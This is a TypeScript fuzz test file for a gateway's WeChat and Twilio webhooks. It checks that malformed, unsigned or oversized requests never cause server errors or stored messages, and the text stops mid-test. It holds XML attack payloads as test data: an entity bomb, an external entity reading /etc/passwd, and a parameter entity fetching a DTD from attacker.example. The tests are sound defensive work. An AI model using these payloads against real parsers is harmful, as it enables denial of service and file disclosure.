/**
 * Bad input against every webhook and inbound parser of a whole gateway (PostgreSQL), in process through
 * `app.inject`: random bytes, mutations of valid payloads (byte flips, truncation, duplication, field
 * deletion and type changes), invalid UTF-8, NUL bytes, lone surrogates, a BOM, deep nesting, huge numbers,
 * huge strings around the body limit, XML entity bombs and external entities, and wrong content types.
 *
 * Properties, for every request: never a 5xx; an answer within RESPONSE_BOUND_MS; an unsigned or badly
 * signed request is refused (401/403, or 400/415 when it cannot even be parsed) and stores nothing; a
 * request that is not acknowledged stores nothing; an acknowledged message is stored once, and the same
 * request again (a provider's retry) stores nothing more. Stored rows are counted in the database.
 *
 * Deterministic: FUZZ_SEED (default below) seeds every property; a failure prints the seed and the path
 * (fast-check's report), and FUZZ_SEED=<seed> FUZZ_RUNS=<n> reproduces it.
 */
import { randomBytes } from 'node:crypto';
import fc from 'fast-check';
// The form parser @fastify/formbody uses: a signature must be over exactly what the gateway reads.
import { parse as parseForm } from 'fast-querystring';
import twilio from 'twilio';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { gatewayHeaders, gatewaySignature } from '../channels/sms/json-gateway.js';
import { FakeTranscriber } from '../channels/voice/fake-transcriber.js';
import { startTestGateway, TEST_DIRECTLINE_SECRET, type TestGateway } from './support/gateway.js';
import nock, { onlyLocalNetwork } from './support/nock.js';
import { postgresUnavailable } from './support/services.js';
import { sealWechat, wechatSignature } from './support/wechat.js';

const SEED = Number(process.env.FUZZ_SEED ?? 12345);
const RUNS = Number(process.env.FUZZ_RUNS ?? 40);
/** No shrinking by default (each step is a request): the seed and path reproduce a failure. */
fc.configureGlobal({ seed: SEED, numRuns: RUNS, endOnFailure: process.env.FUZZ_SHRINK !== '1' });

/** Every answer must come within this (the process neither crashes nor hangs). */
const RESPONSE_BOUND_MS = 5000;

const PUBLIC_URL = 'https://12345.example.gov.cn';
const WECHAT = {
  token: 'fuzztoken',
  appId: 'wx0123456789abcdef',
  aesKey: 'abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG',
};
const WECHAT_API = 'https://api.weixin.fuzz.test';
const TWILIO = { accountSid: `AC${'1'.repeat(32)}`, authToken: 'fuzz-twilio-auth-token' };
const SMS_API = 'https://sms.fuzz.test';
const GATEWAY_SECRET = 'json-gateway-fuzz-secret-0123456789';
const GATEWAY_API = 'https://sms-gateway.fuzz.test';

/** Per-route body limits (the routes' own comments say why). */
const LIMITS = { wechat: 64 * 1024, twilioForm: 32 * 1024, gatewayJson: 16 * 1024, activity: 64 * 1024 };

const skip = await postgresUnavailable();
onlyLocalNetwork();

// ---------------------------------------------------------------------------------------------------------
// Requests and what they stored

interface Answer {
  status: number;
  body: string;
  headers: Record<string, unknown>;
}

interface Request {
  method?: 'GET' | 'POST';
  url: string;
  headers?: Record<string, string>;
  payload?: string | Buffer;
}

/** One request through the app, checked for the two properties every request has. */
async function send(gw: TestGateway, request: Request): Promise<Answer> {
  const started = performance.now();
  let timer: NodeJS.Timeout | undefined;
  const response = await Promise.race([
    gw.app.inject({
      method: request.method ?? 'POST',
      url: request.url,
      headers: request.headers,
      payload: request.payload,
    }),
    new Promise<never>((_, reject) => {
      timer = setTimeout(
        () => reject(new Error(`no answer within ${RESPONSE_BOUND_MS} ms: ${request.url}`)),
        RESPONSE_BOUND_MS,
      );
    }),
  ]).finally(() => clearTimeout(timer));
  const ms = performance.now() - started;
  if (response.statusCode >= 500) {
    throw new Error(`${request.url} answered ${response.statusCode}: ${response.body.slice(0, 300)}`);
  }
  expect(ms).toBeLessThan(RESPONSE_BOUND_MS);
  return { status: response.statusCode, body: response.body, headers: response.headers };
}

/** Inbound activities and conversations stored for a channel. */
async function stored(gw: TestGateway, channel: string): Promise<{ activities: number; conversations: number }> {
  const db = gw.database.db;
  const [a, c] = await Promise.all([
    db
      .selectFrom('activities')
      .select((eb) => eb.fn.countAll<string>().as('n'))
      .where('direction', '=', 'inbound')
      .where('channel_id', '=', channel)
      .executeTakeFirstOrThrow(),
    db
      .selectFrom('conversations')
      .select((eb) => eb.fn.countAll<string>().as('n'))
      .where('channel_id', '=', channel)
      .executeTakeFirstOrThrow(),
  ]);
  return { activities: Number(a.n), conversations: Number(c.n) };
}

const ok = (status: number) => status >= 200 && status < 300;

/**
 * Sends a request twice (the provider's retry) and checks what was stored: nothing when it was not
 * acknowledged, at most one message when it was (exactly one when `expectStored`), nothing more on the retry
 * (unless the request carries no id to recognise a retry by: `idempotent: false`).
 */
async function sendAndRetry(
  gw: TestGateway,
  channel: string,
  request: Request,
  expectation: { statuses?: number[]; expectStored?: boolean; idempotent?: boolean } = {},
): Promise<Answer> {
  const before = await stored(gw, channel);
  const first = await send(gw, request);
  const afterFirst = await stored(gw, channel);
  const added = afterFirst.activities - before.activities;
  if (expectation.statuses) expect(expectation.statuses, first.body).toContain(first.status);
  if (!ok(first.status)) {
    expect(added, `${first.status} stored a message`).toBe(0);
    expect(afterFirst.conversations, `${first.status} opened a conversation`).toBe(before.conversations);
    return first;
  }
  if (expectation.expectStored) expect(added, 'an acknowledged message is stored once').toBe(1);
  else expect(added).toBeLessThanOrEqual(1);
  const retry = await send(gw, request);
  const afterRetry = await stored(gw, channel);
  if ((ok(retry.status) || expectation.expectStored) && expectation.idempotent !== false) {
    expect(afterRetry.activities - afterFirst.activities, 'a retry stores nothing more').toBe(0);
  }
  return first;
}

// ---------------------------------------------------------------------------------------------------------
// Generators

/** Strings that have broken parsers and databases: NUL, lone surrogates, BOM, markup, huge numbers as text. */
const nasty = fc.constantFrom(
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  'x\ud83d',
  '\ufeff',
  ']]>',
  '<![CDATA[',
  '&lol9;',
  '&#0;',
  '&#x0;',
  '<xml>',
  '%',
  '%E4%B8',
  '%C0%80',
  '1e308',
  '-1e309',
  '18446744073709551616',
  '9'.repeat(1000),
  '',
  ' ',
  'STOP',
  '退订',
  '__proto__',
  '{"__proto__":{"polluted":1}}',
  '\r\n\r\n',
  '我要投诉小区门口占道经营',
);
const text = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 3, arbitrary: nasty },
  { weight: 1, arbitrary: fc.array(nasty, { maxLength: 5 }).map((parts) => parts.join('')) },
);

/** A byte-level mutation of a payload: flips, truncation, duplication, insertion of arbitrary bytes, deletion. */
const byteMutation = fc.oneof(
  fc.record({ kind: fc.constant('flip' as const), at: fc.nat(), byte: fc.integer({ min: 0, max: 255 }) }),
  fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('duplicate' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 64 }) }),
  fc.record({
    kind: fc.constant('insert' as const),
    at: fc.nat(),
    bytes: fc.uint8Array({ minLength: 1, maxLength: 8 }),
  }),
  fc.record({ kind: fc.constant('delete' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 16 }) }),
);
type ByteMutation = typeof byteMutation extends fc.Arbitrary<infer T> ? T : never;

function mutateBytes(input: Buffer, mutations: ByteMutation[]): Buffer {
  let bytes = Buffer.from(input);
  for (const m of mutations) {
    const at = bytes.length === 0 ? 0 : m.at % bytes.length;
    if (m.kind === 'flip' && bytes.length) bytes[at] = m.byte;
    if (m.kind === 'truncate') bytes = bytes.subarray(0, at);
    if (m.kind === 'duplicate') bytes = Buffer.concat([bytes.subarray(0, at + m.length), bytes.subarray(at)]);
    if (m.kind === 'insert') bytes = Buffer.concat([bytes.subarray(0, at), Buffer.from(m.bytes), bytes.subarray(at)]);
    if (m.kind === 'delete') bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + m.length)]);
  }
  return bytes;
}
const byteMutations = fc.array(byteMutation, { minLength: 1, maxLength: 4 });

/** Values a JSON field may be changed to, including raw JSON text JavaScript cannot produce (huge numbers). */
const HUGE = ['1e308', '-1e308', '1e309', '18446744073709551616', '1' + '0'.repeat(1000), '0.' + '0'.repeat(400) + '1'];
const jsonValue: fc.Arbitrary<unknown> = fc.oneof(
  text,
  fc.constant(null),
  fc.boolean(),
  fc.double(),
  fc.constantFrom(...HUGE).map((digits) => ({ [RAW]: digits })),
  fc.array(text, { maxLength: 3 }),
  fc.dictionary(text, text, { maxKeys: 3 }),
  fc.integer({ min: 1, max: 200 }).map((depth) => nested(depth)),
);
const RAW = '__raw_json__';
/** Object keys for payloads that are meant to be valid (no `__proto__`, which the JSON parser refuses). */
const key = fc.string({ unit: 'binary', minLength: 1, maxLength: 12 }).filter((k) => k !== '__proto__');
/** Header values: printable ASCII (anything else is no valid header at all). */
const headerValue = fc.stringMatching(/^[\x21-\x7e]{0,60}$/);
/** JSON text, with `{ [RAW]: "digits" }` written as the bare digits (numbers beyond double precision). */
const toJson = (value: unknown) =>
  JSON.stringify(value).replace(new RegExp(`\\{"${RAW}":"([^"]*)"\\}`, 'g'), (_, digits: string) => digits);
const nested = (depth: number): unknown => JSON.parse('['.repeat(depth) + ']'.repeat(depth));

/** A structural mutation of a flat record: delete a field, change its type or value, or add one. */
const fieldMutation = fc.oneof(
  fc.record({ kind: fc.constant('delete' as const), pick: fc.nat() }),
  fc.record({ kind: fc.constant('set' as const), pick: fc.nat(), value: jsonValue }),
  fc.record({
    kind: fc.constant('add' as const),
    key: fc.oneof(text, fc.constantFrom('__proto__', 'constructor')),
    value: jsonValue,
  }),
);
type FieldMutation = typeof fieldMutation extends fc.Arbitrary<infer T> ? T : never;

function mutateFields(record: Record<string, unknown>, mutations: FieldMutation[]): Record<string, unknown> {
  const result: Record<string, unknown> = { ...record };
  for (const m of mutations) {
    const keys = Object.keys(result);
    if (m.kind === 'add')
      Object.defineProperty(result, m.key, { value: m.value, enumerable: true, writable: true, configurable: true });
    else if (keys.length) {
      const key = keys[m.pick % keys.length]!;
      if (m.kind === 'delete') delete result[key];
      else result[key] = m.value;
    }
  }
  return result;
}
const fieldMutations = fc.array(fieldMutation, { minLength: 1, maxLength: 3 });

/** Unique ids across the whole file, so that no two generated messages are each other's retry by chance. */
let counter = 0;
const unique = (prefix: string) => `${prefix}${Date.now().toString(36)}${(++counter).toString().padStart(6, '0')}`;

// ---------------------------------------------------------------------------------------------------------
// WeChat official account

const sha1 = wechatSignature;
const seal = (plain: Buffer | string, appId = WECHAT.appId) => sealWechat(WECHAT.aesKey, appId, plain);

const cdata = (value: string) => `<![CDATA[${value.replaceAll(']]>', ']]]]><![CDATA[>')}]]>`;

interface WechatMessage {
  from: string;
  kind: 'text' | 'voice' | 'image' | 'location';
  content: string;
}

function wechatXml(message: WechatMessage, msgId = unique('')): string {
  const fields: Record<string, string> = {
    ToUserName: cdata('gh_12345hotline'),
    FromUserName: cdata(message.from),
    CreateTime: String(1_700_000_000 + counter),
    MsgType: cdata(message.kind),
  };
  if (message.kind === 'text') fields.Content = cdata(message.content);
  if (message.kind === 'voice')
    Object.assign(fields, { MediaId: cdata('media-1'), Format: cdata('amr'), Recognition: cdata(message.content) });
  if (message.kind === 'image')
    Object.assign(fields, { MediaId: cdata('media-2'), PicUrl: cdata('http://mmbiz.example/x.jpg') });
  if (message.kind === 'location')
    Object.assign(fields, {
      Location_X: '30.2741',
      Location_Y: '120.1551',
      Scale: '15',
      Label: cdata(message.content),
    });
  fields.MsgId = msgId;
  return `<xml>${Object.entries(fields)
    .map(([k, v]) => `<${k}>${v}</${k}>`)
    .join('')}</xml>`;
}

const wechatMessage = fc.record({
  from: fc.stringMatching(/^o[A-Za-z0-9_-]{8,27}$/),
  kind: fc.constantFrom('text' as const, 'voice' as const, 'image' as const, 'location' as const),
  content: text,
});

function signedQuery(extra: Record<string, string> = {}): string {
  const timestamp = String(Math.floor(Date.now() / 1000));
  const nonce = randomBytes(6).toString('hex');
  return new URLSearchParams({
    timestamp,
    nonce,
    signature: sha1([WECHAT.token, timestamp, nonce]),
    openid: 'x',
    ...extra,
  }).toString();
}

/** A safe-mode request around `Encrypt` (any text), signed over it unless `forge`. */
function encryptedRequest(encrypt: string, forge = false): Request {
  const timestamp = String(Math.floor(Date.now() / 1000));
  const nonce = randomBytes(6).toString('hex');
  const msgSignature = forge ? sha1(['forged', encrypt]) : sha1([WECHAT.token, timestamp, nonce, encrypt]);
  const query = new URLSearchParams({ timestamp, nonce, encrypt_type: 'aes', msg_signature: msgSignature });
  return {
    url: `/wechat?${query}`,
    headers: { 'content-type': 'text/xml' },
    payload: `<xml><ToUserName><![CDATA[gh_12345hotline]]></ToUserName><Encrypt><![CDATA[${encrypt}]]></Encrypt></xml>`,
  };
}

const xmlRequest = (payload: string | Buffer, query = signedQuery(), contentType = 'text/xml'): Request => ({
  url: `/wechat?${query}`,
  headers: { 'content-type': contentType },
  payload,
});

const BILLION_LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]><xml><ToUserName>gh</ToUserName><FromUserName>o-laughs</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content>&lol9;</Content><MsgId>7000000000000000001</MsgId></xml>`;
const EXTERNAL_ENTITY = `<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><ToUserName>gh</ToUserName><FromUserName>o-xxe</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content>&xxe;</Content><MsgId>7000000000000000002</MsgId></xml>`;
/** A parameter entity pulls a remote DTD; no DOCTYPE keyword spelled in upper case. */
const PARAMETER_ENTITY = `<?xml version="1.0"?><!doctype xml [<!entity % remote SYSTEM "http://attacker.example/evil.dtd">%remote;]><xml><FromUserName>o-pe</FromUserName><MsgType>text</MsgType><Content>x</Content></xml>`;

const deepXml = (depth: number, inside = 'Content') =>
  `<xml><ToUserName>gh</ToUserName><FromUserName>o-deep</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><${inside}>${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}</${inside}><MsgId>${unique('')}</MsgId></xml>`;

describe.skipIf(skip)(`webhook fuzz: WeChat, Twilio SMS and voice, Direct Line (seed ${SEED})`, () => {
  let gw: TestGateway;
  let conversation: { conversationId: string; token: string };

  beforeAll(async () => {
    gw = await startTestGateway({
      engine: 'postgres',
      env: {
        PUBLIC_URL,
        WECHAT_TOKEN: WECHAT.token,
        WECHAT_APP_ID: WECHAT.appId,
        WECHAT_APP_SECRET: 'fuzz-app-secret',
        WECHAT_ENCODING_AES_KEY: WECHAT.aesKey,
        WECHAT_API_BASE_URL: WECHAT_API,
        WECHAT_PASSIVE_REPLY_MS: '0',
        TWILIO_ACCOUNT_SID: TWILIO.accountSid,
        TWILIO_AUTH_TOKEN: TWILIO.authToken,
        SMS_FROM: '+8610612345',
        SMS_API_BASE_URL: SMS_API,
        VOICE_CALLER_ID: '+8657112345',
        // The scripted transcriber recognises; the variable only switches voice on.
        WHISPER_MODEL: '/nonexistent/ggml-model.bin',
        JOB_ATTEMPTS: '1',
        // Limits are tested in rate-limits.int.test.ts; here they must not get in the way.
        RATE_LIMIT_MESSAGES_PER_MINUTE: '1000000',
        RATE_LIMIT_IP_PER_MINUTE: '1000000',
      },
      transcriber: new FakeTranscriber(),
    });
    // The providers' APIs, for replies and media the stored messages cause (not under test here).
    nock(WECHAT_API)
      .persist()
      .get(/.*/)
      .reply(200, { access_token: 'fuzz-access-token', expires_in: 7200 })
      .post(/.*/)
      .reply(200, { errcode: 0, errmsg: 'ok' });
    nock(SMS_API).persist().post(/.*/).reply(201, { sid: 'SMfuzz', status: 'queued' });
    const opened = await send(gw, {
      url: '/v3/directline/conversations',
      headers: { authorization: `Bearer ${TEST_DIRECTLINE_SECRET}` },
    });
    conversation = JSON.parse(opened.body) as { conversationId: string; token: string };
  }, 60_000);
  afterAll(async () => {
    nock.cleanAll();
    await gw?.cleanup();
  });

  describe('WeChat official account (plaintext)', () => {
    it('stores a signed message once, also when WeChat retries it', async () => {
      await fc.assert(
        fc.asyncProperty(wechatMessage, async (message) => {
          await sendAndRetry(gw, 'wechat', xmlRequest(wechatXml(message)), { statuses: [200], expectStored: true });
        }),
      );
    });

    it('never fails on byte mutations of a signed message', async () => {
      await fc.assert(
        fc.asyncProperty(wechatMessage, byteMutations, async (message, mutations) => {
          const payload = mutateBytes(Buffer.from(wechatXml(message)), mutations);
          await sendAndRetry(gw, 'wechat', xmlRequest(payload), { statuses: [200, 400, 413] });
        }),
      );
    });

    it('never fails on structural mutations: fields deleted, duplicated, nested, or with odd values', async () => {
      const structural = fc.record({
        drop: fc.subarray(['ToUserName', 'FromUserName', 'CreateTime', 'MsgType', 'Content', 'MsgId']),
        duplicate: fc.subarray(['FromUserName', 'MsgType', 'Content', 'MsgId']),
        nest: fc.subarray(['FromUserName', 'MsgType', 'Content', 'MsgId']),
        odd: fc.dictionary(fc.constantFrom('FromUserName', 'MsgType', 'Content', 'MsgId', 'CreateTime'), text),
      });
      await fc.assert(
        fc.asyncProperty(wechatMessage, structural, async (message, s) => {
          let xml = wechatXml({ ...message, kind: 'text' });
          for (const [tag, value] of Object.entries(s.odd)) {
            xml = xml.replace(new RegExp(`<${tag}>.*?</${tag}>`), `<${tag}>${cdata(value)}</${tag}>`);
          }
          for (const tag of s.duplicate) xml = xml.replace(new RegExp(`(<${tag}>.*?</${tag}>)`), '$1$1');
          for (const tag of s.nest)
            xml = xml.replace(new RegExp(`<${tag}>(.*?)</${tag}>`), `<${tag}><inner>$1</inner></${tag}>`);
          for (const tag of s.drop) xml = xml.replace(new RegExp(`<${tag}>.*?</${tag}>`), '');
          await sendAndRetry(gw, 'wechat', xmlRequest(xml), { statuses: [200, 400] });
        }),
      );
    });

    it('refuses unsigned and badly signed messages, storing nothing', async () => {
      const query = fc.oneof(
        fc.constant(''),
        fc.constant(`timestamp=1&nonce=2`),
        fc.string({ unit: 'binary', maxLength: 40 }).map((s) => signedQuery({ signature: s })),
        fc.constant(signedQuery().replace(/signature=[0-9a-f]/, 'signature=g')),
        fc.constant(`${signedQuery()}&signature=${'0'.repeat(40)}`),
      );
      await fc.assert(
        fc.asyncProperty(wechatMessage, query, async (message, q) => {
          const answer = await sendAndRetry(gw, 'wechat', xmlRequest(wechatXml(message), q));
          expect([401, 403]).toContain(answer.status);
        }),
      );
    });

    it('never fails on random bytes, signed', async () => {
      await fc.assert(
        fc.asyncProperty(fc.uint8Array({ maxLength: 2048 }), async (bytes) => {
          await sendAndRetry(gw, 'wechat', xmlRequest(Buffer.from(bytes)), { statuses: [200, 400] });
        }),
      );
    });

    it('expands no entity: billion laughs and external entities are refused', async () => {
      for (const payload of [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY]) {
        const answer = await sendAndRetry(gw, 'wechat', xmlRequest(payload));
        expect(answer.status).toBe(400);
      }
      // Entity references without a DTD are text: stored as written, never expanded.
      const message = { from: 'o-entity-ref-1', kind: 'text' as const, content: '' };
      const xml = wechatXml(message).replace('<Content><![CDATA[]]></Content>', '<Content>&lol9;&amp;&#0;</Content>');
      await sendAndRetry(gw, 'wechat', xmlRequest(xml), { statuses: [200, 400] });
      const rows = await gw.database.db
        .selectFrom('activities')
        .select('text')
        .where('from_id', '=', 'wechat:o-entity-ref-1')
        .execute();
      for (const row of rows) expect(row.text).not.toContain('lollol');
    });

    it('survives deep nesting, a BOM, NUL bytes and huge numbers', async () => {
      // 10,000 levels are over the route's limit (413); what fits is refused as a message that is not text.
      expect((await sendAndRetry(gw, 'wechat', xmlRequest(deepXml(10_000)))).status).toBe(413);
      const fits = Math.floor((LIMITS.wechat - 400) / 7);
      expect([400]).toContain((await sendAndRetry(gw, 'wechat', xmlRequest(deepXml(fits)))).status);
      const base = wechatXml({ from: 'o-odd-bytes-1', kind: 'text', content: '你好' });
      for (const payload of [
        Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(base)]),
        Buffer.from(base.replace('你好', 'a\u0000b')),
        Buffer.from(base.replace('你好', '\u0000'.repeat(100))),
        Buffer.concat([
          Buffer.from(base.slice(0, 150)),
          Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80]),
          Buffer.from(base.slice(150)),
        ]),
        Buffer.from(base.replace(/<MsgId>\d+<\/MsgId>/, `<MsgId>${'9'.repeat(1000)}</MsgId>`)),
        Buffer.from(base.replace(/<CreateTime>\d+<\/CreateTime>/, '<CreateTime>1e308</CreateTime>')),
      ]) {
        await sendAndRetry(gw, 'wechat', xmlRequest(payload), { statuses: [200, 400] });
      }
    });

    it('answers 413 to bodies over its limit and takes a large one under it', async () => {
      const big = (bytes: number) => {
        const shell = wechatXml({ from: 'o-big-body-1', kind: 'text', content: '' });
        return shell.replace(
          '<Content><![CDATA[]]></Content>',
          `<Content>${'x'.repeat(bytes - shell.length + 12)}</Content>`,
        );
      };
      expect(Buffer.byteLength(big(LIMITS.wechat + 1))).toBe(LIMITS.wechat + 1);
      expect((await sendAndRetry(gw, 'wechat', xmlRequest(big(LIMITS.wechat + 1)))).status).toBe(413);
      expect((await sendAndRetry(gw, 'wechat', xmlRequest(big(4 * 1024 * 1024)))).status).toBe(413);
      expect((await sendAndRetry(gw, 'wechat', xmlRequest(big(LIMITS.wechat - 1)))).status).toBe(200);
    });

    it('answers 415 to other content types, storing nothing', async () => {
      const xml = wechatXml({ from: 'o-content-type', kind: 'text', content: '你好' });
      for (const type of [
        'application/json',
        'application/octet-stream',
        'multipart/form-data; boundary=x',
        'application/x-www-form-urlencoded',
      ]) {
        const answer = await sendAndRetry(gw, 'wechat', xmlRequest(xml, signedQuery(), type));
        expect([400, 415], `${type}: ${answer.body}`).toContain(answer.status);
      }
      const none = await sendAndRetry(gw, 'wechat', { url: `/wechat?${signedQuery()}`, payload: xml });
      expect([400, 415]).toContain(none.status);
    });
  });

  describe('WeChat official account (safe mode)', () => {
    it('stores a sealed message once, also when WeChat retries it', async () => {
      await fc.assert(
        fc.asyncProperty(wechatMessage, async (message) => {
          await sendAndRetry(gw, 'wechat', encryptedRequest(seal(wechatXml(message))), {
            statuses: [200],
            expectStored: true,
          });
        }),
        { numRuns: Math.ceil(RUNS / 2) },
      );
    });

    it('refuses garbage and mutated ciphertext even with a valid msg_signature', async () => {
      const ciphertext = fc.oneof(
        fc.uint8Array({ maxLength: 512 }).map((b) => Buffer.from(b).toString('base64')),
        fc.string({ unit: 'binary', maxLength: 200 }),
        fc.tuple(wechatMessage, byteMutations).map(([m, mutations]) => {
          const raw = Buffer.from(seal(wechatXml(m)), 'base64');
          return mutateBytes(raw, mutations).toString('base64');
        }),
        fc
          .tuple(wechatMessage, byteMutations)
          .map(([m, mutations]) => mutateBytes(Buffer.from(seal(wechatXml(m))), mutations).toString('latin1')),
        // Sealed for another account, or sealed garbage, a bomb, or deep nesting for this one.
        wechatMessage.map((m) => seal(wechatXml(m), 'wx-another-account')),
        fc.uint8Array({ maxLength: 256 }).map((b) => seal(Buffer.from(b))),
        fc.constantFrom(BILLION_LAUGHS, EXTERNAL_ENTITY, deepXml(5000)).map((xml) => seal(xml)),
      );
      await fc.assert(
        fc.asyncProperty(ciphertext, async (encrypt) => {
          // A mutation may still decrypt to a message (CBC garbles a block, not all): stored once then.
          await sendAndRetry(gw, 'wechat', encryptedRequest(encrypt), { statuses: [200, 400, 403] });
        }),
      );
    });

    it('refuses a forged msg_signature, storing nothing', async () => {
      await fc.assert(
        fc.asyncProperty(wechatMessage, async (message) => {
          const answer = await sendAndRetry(gw, 'wechat', encryptedRequest(seal(wechatXml(message)), true));
          expect(answer.status).toBe(403);
        }),
        { numRuns: 10 },
      );
    });
  });

  describe('Twilio SMS webhook', () => {
    const path = '/sms/twilio';
    const sign = (params: Record<string, string | string[]>, url = PUBLIC_URL + path) =>
      twilio.getExpectedTwilioSignature(TWILIO.authToken, url, params as Record<string, string>);
    const form = (params: Record<string, string | string[]>) => {
      const body = new URLSearchParams();
      for (const [k, v] of Object.entries(params)) for (const one of [v].flat()) body.append(k, one);
      return body.toString();
    };
    const signedForm = (params: Record<string, string | string[]>, signature = sign(params)): Request => ({
      url: path,
      headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': signature },
      payload: form(params),
    });
    const sms = fc.record({ from: fc.stringMatching(/^\+861[3-9]\d{9}$/), body: text });
    const params = (m: { from: string; body: string }) => ({
      From: m.from,
      To: '+8610612345',
      Body: m.body,
      MessageSid: unique('SM'),
      AccountSid: TWILIO.accountSid,
      NumMedia: '0',
    });
    const isKeyword = (body: string) =>
      /^(退订|td|t|stop|stopall|unsubscribe|cancel|end|quit|开通|订阅|start|unstop|yes)$/i.test(body.trim());

    it('stores a signed message once, also when it is posted again', async () => {
      await fc.assert(
        fc.asyncProperty(sms, async (m) => {
          await sendAndRetry(gw, 'sms', signedForm(params(m)), { statuses: [200], expectStored: !isKeyword(m.body) });
        }),
      );
    });

    it('never fails on validly signed mutated parameters (deleted, duplicated, retyped, added)', async () => {
      const paramMutation = fc.oneof(
        fc.record({ kind: fc.constant('delete' as const), pick: fc.nat() }),
        fc.record({ kind: fc.constant('set' as const), pick: fc.nat(), value: text }),
        fc.record({ kind: fc.constant('duplicate' as const), pick: fc.nat(), value: text }),
        fc.record({
          kind: fc.constant('add' as const),
          key: fc.oneof(text, fc.constantFrom('__proto__', 'constructor', 'toString', 'hasOwnProperty')),
          value: text,
        }),
      );
      await fc.assert(
        fc.asyncProperty(sms, fc.array(paramMutation, { minLength: 1, maxLength: 4 }), async (m, mutations) => {
          const p: Record<string, string | string[]> = Object.create(null) as Record<string, string | string[]>;
          Object.assign(p, params(m));
          for (const mu of mutations) {
            const keys = Object.keys(p);
            if (mu.kind === 'add') p[mu.key] = mu.value;
            else if (keys.length) {
              const key = keys[mu.pick % keys.length]!;
              if (mu.kind === 'delete') delete p[key];
              if (mu.kind === 'set') p[key] = mu.value;
              if (mu.kind === 'duplicate') p[key] = [...[p[key]!].flat(), mu.value];
            }
          }
          // The signature is over what the gateway will read: the form as it parses it.
          const request = signedForm(p);
          const parsed = parseForm(String(request.payload)) as Record<string, string | string[]>;
          request.headers!['x-twilio-signature'] = sign(parsed);
          await sendAndRetry(gw, 'sms', request, { statuses: [200, 400] });
        }),
      );
    });

    it('never fails on byte mutations and invalid UTF-8, signed over what the gateway parses', async () => {
      await fc.assert(
        fc.asyncProperty(sms, byteMutations, async (m, mutations) => {
          const payload = mutateBytes(Buffer.from(form(params(m))), mutations);
          const parsed = parseForm(payload.toString()) as Record<string, string | string[]>;
          await sendAndRetry(gw, 'sms', { ...signedForm({}, sign(parsed)), payload }, { statuses: [200, 400, 403] });
        }),
      );
    });

    it('refuses unsigned and badly signed messages, storing nothing', async () => {
      const signature = fc.oneof(fc.constant(undefined), headerValue, fc.constant(sign({ From: '+8613800000000' })));
      await fc.assert(
        fc.asyncProperty(sms, signature, async (m, s) => {
          const request = signedForm(params(m));
          if (s === undefined) delete request.headers!['x-twilio-signature'];
          else request.headers!['x-twilio-signature'] = s;
          const answer = await sendAndRetry(gw, 'sms', request);
          expect([401, 403]).toContain(answer.status);
        }),
      );
      // Signed for another URL (a replay against another route).
      const p = params({ from: '+8613800000001', body: '你好' });
      const answer = await sendAndRetry(gw, 'sms', signedForm(p, sign(p, `${PUBLIC_URL}/sms/twilio/status`)));
      expect(answer.status).toBe(403);
    });

    it('answers 415 to JSON and other content types, signed or not', async () => {
      const p = params({ from: '+8613800000002', body: '你好' });
      for (const [type, payload] of [
        ['application/json', JSON.stringify({ ...p, Body: { nested: [1, 2] }, From: 13800000002 })],
        ['text/plain', form(p)],
        ['text/xml', `<xml>${form(p)}</xml>`],
      ] as const) {
        const parsed = type === 'application/json' ? (JSON.parse(payload) as Record<string, string>) : p;
        const answer = await sendAndRetry(gw, 'sms', {
          url: path,
          headers: { 'content-type': type, 'x-twilio-signature': sign(parsed) },
          payload,
        });
        expect(answer.status, type).toBe(415);
      }
    });

    it('answers 413 over its limit and takes a long message under it', async () => {
      const sized = (bytes: number) => {
        const p = params({ from: '+8613800000003', body: '' });
        const fill = bytes - form(p).length;
        return signedForm({ ...p, Body: '投'.repeat(Math.floor(fill / 9)) + 'x'.repeat(fill % 9) });
      };
      const over = sized(LIMITS.twilioForm + 1);
      expect(Buffer.byteLength(String(over.payload))).toBe(LIMITS.twilioForm + 1);
      expect((await sendAndRetry(gw, 'sms', over)).status).toBe(413);
      expect((await sendAndRetry(gw, 'sms', sized(1024 * 1024))).status).toBe(413);
      const under = sized(LIMITS.twilioForm - 1);
      expect((await sendAndRetry(gw, 'sms', under, { expectStored: true })).status).toBe(200);
    });

    it('never fails on mutated status callbacks', async () => {
      const status = fc.record({
        MessageSid: fc.oneof(text, fc.constant('SMfuzz')),
        MessageStatus: fc.oneof(text, fc.constantFrom('delivered', 'failed', 'undelivered', 'sent')),
        ErrorCode: text,
      });
